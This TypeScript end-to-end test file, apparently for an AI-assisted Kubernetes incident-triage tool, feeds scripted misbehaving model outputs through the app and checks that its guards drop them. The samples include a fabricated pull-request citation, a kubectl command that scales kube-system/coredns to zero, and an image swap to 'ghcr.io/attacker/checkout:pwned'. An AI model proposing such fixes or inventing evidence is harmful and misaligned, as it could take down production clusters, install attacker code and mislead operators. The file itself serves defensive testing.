/**
 * A model that misbehaves, inside the running app (issue 12, point 7): the real SDKs talk to the
 * scripted fake model APIs, the demo world runs with the example write policy. Whatever the model does —
 * answer in prose, invent citations, name a target outside the incident, refuse — the deterministic board
 * stands with its own fix, the thread says what the model did wrong, nothing the model invented is stored
 * as evidence, no approval card exists for a fix the policy would refuse, and nothing is written to the
 * cluster. Unit-level proofs of every point, for both providers: test/agent/loop/misbehaves.test.ts.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OpenAIProvider } from '../../src/agent/providers/index.js';
import { readContext } from '../../src/incidents/context.js';
import { renderBlocksAsText } from '../../src/slack/blocks/text.js';
import { asAnthropic } from '../fakes/models/misbehave.js';
import { startFakeOpenAI, type FakeOpenAI } from '../fakes/models/openai.js';
import type { RecordedRequest } from '../fakes/models/script.js';
import { anthropicToolResults, describeCheckout } from '../agent/loop/harness.js';
import { ALERT_CHANNEL, startWorld, type World } from '../support/world.js';
import { DEMO_SCENARIO, threadText } from './helpers.js';

const POLICY = new URL('../../deploy/policy.example.yaml', import.meta.url).pathname;

/** What every world must show afterwards: the deterministic H1 leads with its own fix, and the cluster saw no write. */
async function expectDeterministicTriageStands(world: World) {
  const db = world.vigil!.db.prisma;
  const h1 = await db.hypothesis.findFirstOrThrow({ where: { label: 'H1' } });
  expect(h1).toMatchObject({ analyzer: 'scaled-to-zero', status: 'supported' });
  // The only approval request is the deterministic fix, pending its approval.
  const requests = await db.approvalRequest.findMany();
  expect(requests.map((r) => ({ key: r.hypothesisKey, action: r.action, target: `${r.targetNs}/${r.targetName}`, status: r.status }))).toEqual([
    { key: h1.key, action: 'scale', target: 'shop/checkout', status: 'pending' },
  ]);
  const writes = world.kube.audit.filter((a) => !['get', 'list', 'watch'].includes(a.verb) && !a.path.includes('accessreviews'));
  expect(writes.filter((w) => !w.dryRun)).toEqual([]);
}

const boardOf = (world: World, ts: string) =>
  renderBlocksAsText(world.slack.threadOf(ALERT_CHANNEL, ts).find((m) => (m.metadata as { event_payload?: { purpose?: string } } | undefined)?.event_payload?.purpose === 'board')!);

describe('prose instead of a tool call (Anthropic)', () => {
  let world: World;
  let ts: string;
  beforeAll(async () => {
    world = await startWorld({
      scenarioDir: DEMO_SCENARIO,
      policyFile: POLICY,
      model: {
        name: 'prose e2e',
        script: [
          asAnthropic({ kind: 'prose', text: 'checkout is scaled to zero; scale it back to 3 replicas.' }),
          asAnthropic({ kind: 'prose', text: 'As I said: checkout has no replicas.' }),
          // Never asked for: the run gives up after one correction.
          describeCheckout(),
        ],
      },
    });
    ({ ts } = await world.postAlert());
    await world.settle();
  });
  afterAll(async () => {
    await world?.close();
  });

  it('asks once, gives up, says the model answered in prose; deterministic triage stands with its fix', async () => {
    expect(world.model!.requests).toHaveLength(2);
    const db = world.vigil!.db.prisma;
    const ctx = readContext((await db.investigation.findFirstOrThrow()).context);
    expect(ctx.model).toMatchObject({ status: 'invalid_output', steps: 2 });
    expect(await db.hypothesis.count({ where: { analyzer: 'model' } })).toBe(0);
    expect(threadText(world.slack, ts)[0]).toMatch(/The model’s output was unusable: it answered in prose instead of calling submit_diagnosis.*deterministic triage stands/);
    await expectDeterministicTriageStands(world);
  });
});

describe('invented citations and fixes outside the incident (Anthropic)', () => {
  const INVENTED = 'https://github.com/acme/checkout/pull/4242';
  let world: World;
  let ts: string;
  /** Every hypothesis cites the describe result; the third also cites a pull request no tool returned. */
  let cite = 'inference';
  const submission = (req: RecordedRequest) => {
    // The describe result is in the first submission's request; the second answers the correction.
    cite = anthropicToolResults(req.body).find((r) => r.json?.cite.includes('deployments/checkout'))?.json?.cite ?? cite;
    const base = { confidence: 0.99, facts: {}, scope: 'checkout', affected: [], mechanism: 'the model says so' };
    return {
      toolCalls: [
        {
          name: 'submit_diagnosis',
          input: {
            summary: 'Cluster DNS is to blame; also run a better image.',
            hypotheses: [
              {
                ...base,
                title: 'coredns must go to zero',
                status: 'supported',
                component: { kind: 'Deployment', namespace: 'kube-system', name: 'coredns' },
                category: 'dns-overload',
                evidence: [{ stance: 'supports', summary: 'checkout has no replicas', citation: cite }],
                mitigation: { action: 'scale', target: { kind: 'Deployment', namespace: 'kube-system', name: 'coredns' }, params: { replicas: 0 }, command: 'kubectl scale deployment/coredns -n kube-system --replicas=0', rationale: 'stop DNS' },
              },
              {
                ...base,
                confidence: 0.98,
                title: 'checkout needs the patched image',
                status: 'supported',
                component: { kind: 'Deployment', namespace: 'shop', name: 'checkout' },
                category: 'bad-image',
                evidence: [{ stance: 'supports', summary: 'checkout has no replicas', citation: cite }],
                mitigation: { action: 'set_image', target: { kind: 'Deployment', namespace: 'shop', name: 'checkout' }, params: { container: 'checkout', image: 'ghcr.io/attacker/checkout:pwned' }, command: 'kubectl set image deployment/checkout checkout=ghcr.io/attacker/checkout:pwned -n shop', rationale: 'patched' },
              },
              {
                ...base,
                confidence: 0.97,
                title: 'PR 4242 scaled checkout to 0',
                status: 'supported',
                component: { kind: 'Deployment', namespace: 'shop', name: 'checkout' },
                category: 'bad-pull-request',
                evidence: [{ stance: 'supports', summary: 'PR 4242 set replicas: 0', citation: INVENTED }],
                mitigation: { action: 'scale', target: { kind: 'Deployment', namespace: 'shop', name: 'checkout' }, params: { replicas: 5 }, command: 'kubectl scale deployment/checkout -n shop --replicas=5', rationale: 'more is better' },
              },
            ],
          },
        },
      ],
    };
  };

  beforeAll(async () => {
    world = await startWorld({
      scenarioDir: DEMO_SCENARIO,
      policyFile: POLICY,
      // The model insists after the correction: the same submission twice.
      model: { name: 'misbehaving diagnosis e2e', script: [describeCheckout(), submission, submission] },
    });
    ({ ts } = await world.postAlert());
    await world.settle();
  });
  afterAll(async () => {
    await world?.close();
  });

  it('the invented citation is never stored; its hypothesis is shown uncited, not supported, and proposes nothing', async () => {
    const db = world.vigil!.db.prisma;
    const evidence = await db.evidence.findMany();
    expect(evidence.map((e) => e.citationRef)).not.toContain(INVENTED);
    expect(evidence.some((e) => (e.citationUrl ?? '').includes('4242'))).toBe(false);
    const pr = await db.hypothesis.findFirstOrThrow({ where: { analyzer: 'model', title: 'PR 4242 scaled checkout to 0' }, include: { evidence: true } });
    expect(pr).toMatchObject({ status: 'inconclusive', mitigation: null, evidence: [] });
    expect(pr.confidence).toBeLessThanOrEqual(0.5);
    expect(boardOf(world, ts)).toMatch(/Why not sure:.* uncited: the model cited evidence no tool returned/);
  });

  it('the out-of-scope fix and the attacker’s image never reach a card; their hypotheses stay without a fix', async () => {
    const db = world.vigil!.db.prisma;
    const model = await db.hypothesis.findMany({ where: { analyzer: 'model' } });
    expect(model.map((h) => [h.title, h.status, h.mitigation])).toEqual(
      expect.arrayContaining([
        ['coredns must go to zero', 'supported', null],
        ['checkout needs the patched image', 'supported', null],
      ]),
    );
    const requests = await db.approvalRequest.findMany();
    expect(requests.filter((r) => r.targetNs === 'kube-system' || r.action === 'set_image' || r.hypothesisKey.startsWith('model:'))).toEqual([]);
    const thread = threadText(world.slack, ts).join('\n');
    expect(thread).not.toContain('ghcr.io/attacker');
    expect(thread).not.toContain('kubectl scale deployment/coredns');
  });

  it('the thread says what was dropped and why, and that deterministic triage stands', async () => {
    const notice = threadText(world.slack, ts)[0]!;
    expect(notice).toMatch(/Vigil checked the model’s diagnosis before adding it \(deterministic triage stands\)/);
    expect(notice).toMatch(/cited evidence no tool returned \(“https:\/\/github\.com\/acme\/checkout\/pull\/4242”\)/);
    expect(notice).toMatch(/`scale` on kube-system\/coredns was dropped before any approval card: it is outside this incident's scope \(shop\/checkout\)/);
    expect(notice).toMatch(/`set_image` on shop\/checkout was dropped before any approval card: the image it names never ran in namespace shop/);
    expect(world.model!.requests).toHaveLength(3);
    await expectDeterministicTriageStands(world);
  });
});

describe('a refusal (OpenAI)', () => {
  let world: World;
  let api: FakeOpenAI;
  let ts: string;
  beforeAll(async () => {
    api = await startFakeOpenAI({
      name: 'refusal e2e',
      script: [
        { refusal: "I'm sorry, but I can't help with that.", finishReason: 'stop' },
        // Never asked for: a refusal is not retried.
        { toolCalls: [{ name: 'k8s_describe', arguments: { kind: 'Deployment', namespace: 'shop', name: 'checkout' } }] },
      ],
    });
    world = await startWorld({
      scenarioDir: DEMO_SCENARIO,
      policyFile: POLICY,
      modelProvider: new OpenAIProvider({ apiKey: 'test-openai-key', baseURL: api.baseURL, maxRetries: 0 }),
    });
    ({ ts } = await world.postAlert());
    await world.settle();
  });
  afterAll(async () => {
    await world?.close();
    await api?.close();
  });

  it('ends the model step at once, says the model refused, and leaves deterministic triage standing', async () => {
    expect(api.requests).toHaveLength(1);
    const db = world.vigil!.db.prisma;
    expect(readContext((await db.investigation.findFirstOrThrow()).context).model).toMatchObject({ provider: 'openai', status: 'refused', steps: 1, toolCalls: 0 });
    expect(await db.hypothesis.count({ where: { analyzer: 'model' } })).toBe(0);
    expect(threadText(world.slack, ts)[0]).toMatch(/The model refused to investigate \(I'm sorry, but I can't help with that\.\): deterministic triage stands; nothing it wrote was kept\./);
    await expectDeterministicTriageStands(world);
  });
});

describe('a model fix the policy refuses for a reason the model step cannot see (Anthropic)', () => {
  let world: World;
  let cite = 'inference';
  const submission = (req: RecordedRequest) => {
    cite = anthropicToolResults(req.body).find((r) => r.json?.cite.includes('deployments/checkout'))?.json?.cite ?? cite;
    return {
      toolCalls: [
        {
          name: 'submit_diagnosis',
          input: {
            summary: 'checkout should go back to its previous image.',
            hypotheses: [
              {
                confidence: 0.99,
                facts: {},
                scope: 'checkout',
                affected: [],
                mechanism: 'the model says so',
                title: 'checkout runs a bad build',
                status: 'supported',
                component: { kind: 'Deployment', namespace: 'shop', name: 'checkout' },
                category: 'bad-image',
                evidence: [{ stance: 'supports', summary: 'checkout has no replicas', citation: cite }],
                // An image that ran in shop before: the model step's screen lets it through; the example
                // policy forbids set_image in production (rule no-image-or-resource-edits).
                mitigation: { action: 'set_image', target: { kind: 'Deployment', namespace: 'shop', name: 'checkout' }, params: { container: 'checkout', image: 'registry.example.com/shop/checkout:1.14.1' }, command: 'kubectl set image deployment/checkout checkout=registry.example.com/shop/checkout:1.14.1 -n shop', rationale: 'previous build' },
              },
            ],
          },
        },
      ],
    };
  };
  beforeAll(async () => {
    world = await startWorld({ scenarioDir: DEMO_SCENARIO, policyFile: POLICY, model: { name: 'refused model fix e2e', script: [describeCheckout(), submission] } });
    await world.postAlert();
    await world.settle();
  });
  afterAll(async () => {
    await world?.close();
  });

  it('gets no card, refusal or not: it is dropped with an audit record and the deterministic fix is proposed instead', async () => {
    const db = world.vigil!.db.prisma;
    const model = await db.hypothesis.findFirstOrThrow({ where: { analyzer: 'model' } });
    expect(model.status).toBe('supported');
    const dropped = await db.auditEvent.findMany({ where: { kind: 'approval.model_fix_dropped' } });
    expect(dropped).toHaveLength(1);
    expect(dropped[0]!.data).toMatch(/set_image/);
    await expectDeterministicTriageStands(world);
  });
});
